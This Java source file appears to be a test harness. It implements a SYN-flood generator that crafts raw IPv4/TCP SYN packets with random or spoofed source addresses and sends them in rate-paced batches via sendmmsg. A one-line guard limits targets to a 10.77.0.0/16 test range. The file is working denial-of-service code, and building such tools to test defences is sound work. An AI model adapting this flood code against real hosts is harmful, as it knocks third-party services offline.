package dev.synwarm.testing;

import static java.lang.foreign.ValueLayout.ADDRESS;
import static java.lang.foreign.ValueLayout.JAVA_INT;
import static java.lang.foreign.ValueLayout.JAVA_LONG;

import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.StructLayout;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.VarHandle;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/**
 * A SYN flood for the abuse test: raw IPv4/TCP SYNs from {@code src} (random source ports) to {@code dst},
 * half to the given target ports (none: "-"), half to random ports not in the excluded list, paced to a rate. It runs inside the run's
 * client namespace and only ever sends to the run's own 10.77.x edge address. {@code src} may be an
 * address no host owns (spoofed, as real SYN floods are): the edge's SYN-ACKs and RSTs then wait for an
 * ARP answer that never comes instead of crossing the link back and drawing the client kernel's RSTs.
 * The SYNs leave in batches, one sendmmsg(2) per millisecond, so the generator wakes 1,000 times a second
 * rather than once per SYN.
 *
 * <p>Usage: {@code SynFlood SRC DST RATE_PER_S SECONDS TARGET_PORT[,…] EXCLUDED_PORT[,…] [BATCH TICK_US]}
 * (default 64 SYNs per call at most, 1000 µs between wake-ups; {@code 1 100} is the old per-SYN sender); prints
 * {@code sent N in S s, dropped D, cpu C s} when done.
 */
public final class SynFlood {
    private static final Linker LINKER = Linker.nativeLinker();
    private static final StructLayout ERRNO = Linker.Option.captureStateLayout();
    private static final VarHandle ERRNO_VALUE = ERRNO.varHandle(java.lang.foreign.MemoryLayout.PathElement.groupElement("errno"));
    private static final MethodHandle SOCKET = LINKER.downcallHandle(LINKER.defaultLookup().find("socket").orElseThrow(),
            FunctionDescriptor.of(JAVA_INT, JAVA_INT, JAVA_INT, JAVA_INT), Linker.Option.captureCallState("errno"));
    private static final MethodHandle SENDMMSG = LINKER.downcallHandle(LINKER.defaultLookup().find("sendmmsg").orElseThrow(),
            FunctionDescriptor.of(JAVA_INT, JAVA_INT, ADDRESS, JAVA_INT, JAVA_INT), Linker.Option.captureCallState("errno"));
    private static final MethodHandle CLOSE = LINKER.downcallHandle(LINKER.defaultLookup().find("close").orElseThrow(),
            FunctionDescriptor.of(JAVA_INT, JAVA_INT));
    private static final int AF_INET = 2;
    private static final int SOCK_RAW = 3;
    private static final int IPPROTO_RAW = 255; // implies IP_HDRINCL: we write the IP header
    private static final int ENOBUFS = 105;
    private static final int MAX_BATCH = 64;
    private static final int SYN_BYTES = 40;
    /** struct mmsghdr on x86-64/aarch64: msghdr (56 bytes) + msg_len, padded to 64. */
    private static final int MMSGHDR = 64;
    private static final int IOVEC = 16;

    private SynFlood() {}

    public static void main(String[] args) throws Throwable {
        byte[] src = InetAddress.getByName(args[0]).getAddress();
        byte[] dst = InetAddress.getByName(args[1]).getAddress();
        if ((dst[0] & 0xff) != 10 || (dst[1] & 0xff) != 77) {
            throw new IllegalArgumentException("floods only 10.77.0.0/16 addresses: " + args[1]);
        }
        int rate = Integer.parseInt(args[2]);
        long seconds = Long.parseLong(args[3]);
        int[] mapped = args[4].equals("-") ? new int[0] : Arrays.stream(args[4].split(",")).mapToInt(Integer::parseInt).toArray();
        int[] excluded = Arrays.stream(args[5].split(",")).mapToInt(Integer::parseInt).sorted().toArray();
        int batch = args.length > 6 ? Math.clamp(Integer.parseInt(args[6]), 1, MAX_BATCH) : MAX_BATCH;
        long tickNs = TimeUnit.MICROSECONDS.toNanos(args.length > 7 ? Long.parseLong(args[7]) : 1000);
        SplittableRandom random = new SplittableRandom();
        try (Arena arena = Arena.ofConfined()) {
            MemorySegment errno = arena.allocate(ERRNO);
            int fd = (int) SOCKET.invokeExact(errno, AF_INET, SOCK_RAW, IPPROTO_RAW);
            if (fd < 0) {
                throw new IllegalStateException("socket(AF_INET, SOCK_RAW) failed, errno " + (int) ERRNO_VALUE.get(errno, 0L));
            }
            MemorySegment to = arena.allocate(16);
            to.set(ValueLayout.JAVA_SHORT, 0, (short) AF_INET);
            MemorySegment.copy(dst, 0, to, ValueLayout.JAVA_BYTE, 4, 4);
            MemorySegment packets = arena.allocate((long) MAX_BATCH * SYN_BYTES, 8);
            MemorySegment iovs = arena.allocate((long) MAX_BATCH * IOVEC, 8);
            MemorySegment msgs = arena.allocate((long) MAX_BATCH * MMSGHDR, 8);
            for (int i = 0; i < MAX_BATCH; i++) {
                MemorySegment iov = iovs.asSlice((long) i * IOVEC, IOVEC);
                iov.set(ValueLayout.ADDRESS, 0, packets.asSlice((long) i * SYN_BYTES, SYN_BYTES));
                iov.set(JAVA_LONG, 8, SYN_BYTES);
                MemorySegment m = msgs.asSlice((long) i * MMSGHDR, MMSGHDR);
                m.set(ValueLayout.ADDRESS, 0, to); // msg_name
                m.set(JAVA_INT, 8, 16); // msg_namelen
                m.set(ValueLayout.ADDRESS, 16, iov); // msg_iov
                m.set(JAVA_LONG, 24, 1); // msg_iovlen
            }
            ByteBuffer b = ByteBuffer.allocate(SYN_BYTES);
            long start = System.nanoTime();
            long end = start + TimeUnit.SECONDS.toNanos(seconds);
            long sent = 0;
            long dropped = 0;
            for (long now = start; now < end; now = System.nanoTime()) {
                long due = (now - start) * rate / 1_000_000_000L - (sent + dropped);
                if (due <= 0) {
                    LockSupport.parkNanos(tickNs); // pacing: the next batch is due in about a tick
                    continue;
                }
                int k = (int) Math.min(due, batch);
                for (int i = 0; i < k; i++) {
                    int dport = mapped.length > 0 && random.nextBoolean() ? mapped[random.nextInt(mapped.length)] : otherPort(random, excluded);
                    syn(b, src, dst, 1024 + random.nextInt(64_512), dport, random.nextInt());
                    MemorySegment.copy(b.array(), 0, packets, ValueLayout.JAVA_BYTE, (long) i * SYN_BYTES, SYN_BYTES);
                }
                int n = (int) SENDMMSG.invokeExact(errno, fd, msgs, k, 0);
                if (n > 0) {
                    sent += n;
                } else if ((int) ERRNO_VALUE.get(errno, 0L) == ENOBUFS) {
                    dropped++; // the qdisc is full: counted, not retried
                } else {
                    throw new IllegalStateException("sendmmsg failed, errno " + (int) ERRNO_VALUE.get(errno, 0L));
                }
            }
            int rc = (int) CLOSE.invokeExact(fd);
            double cpu = ProcessHandle.current().info().totalCpuDuration().map(d -> d.toNanos() / 1e9).orElse(Double.NaN);
            System.out.printf("sent %d in %.2f s, dropped %d, cpu %.2f s, close %d%n", sent, (System.nanoTime() - start) / 1e9,
                    dropped, cpu, rc);
        }
    }

    private static int otherPort(SplittableRandom r, int[] excluded) {
        while (true) {
            int p = 1024 + r.nextInt(64_512);
            if (Arrays.binarySearch(excluded, p) < 0) {
                return p;
            }
        }
    }

    /** IPv4 header (checksum left to the kernel, which fills it for IP_HDRINCL) and a TCP SYN. */
    static void syn(ByteBuffer b, byte[] src, byte[] dst, int sport, int dport, int seq) {
        b.clear();
        b.put((byte) 0x45).put((byte) 0).putShort((short) 40).putShort((short) 0).putShort((short) 0x4000)
                .put((byte) 64).put((byte) 6).putShort((short) 0).put(src).put(dst);
        b.putShort((short) sport).putShort((short) dport).putInt(seq).putInt(0)
                .put((byte) 0x50).put((byte) 0x02).putShort((short) 64240).putShort((short) 0).putShort((short) 0);
        b.putShort(36, tcpChecksum(b.array(), src, dst));
    }

    private static short tcpChecksum(byte[] p, byte[] src, byte[] dst) {
        long sum = 0;
        for (int i = 0; i < 4; i += 2) {
            sum += ((src[i] & 0xff) << 8) | (src[i + 1] & 0xff);
            sum += ((dst[i] & 0xff) << 8) | (dst[i + 1] & 0xff);
        }
        sum += 6 + 20; // protocol, TCP length
        for (int i = 20; i < 40; i += 2) {
            sum += ((p[i] & 0xff) << 8) | (p[i + 1] & 0xff);
        }
        while ((sum >> 16) != 0) {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        return (short) ~sum;
    }
}
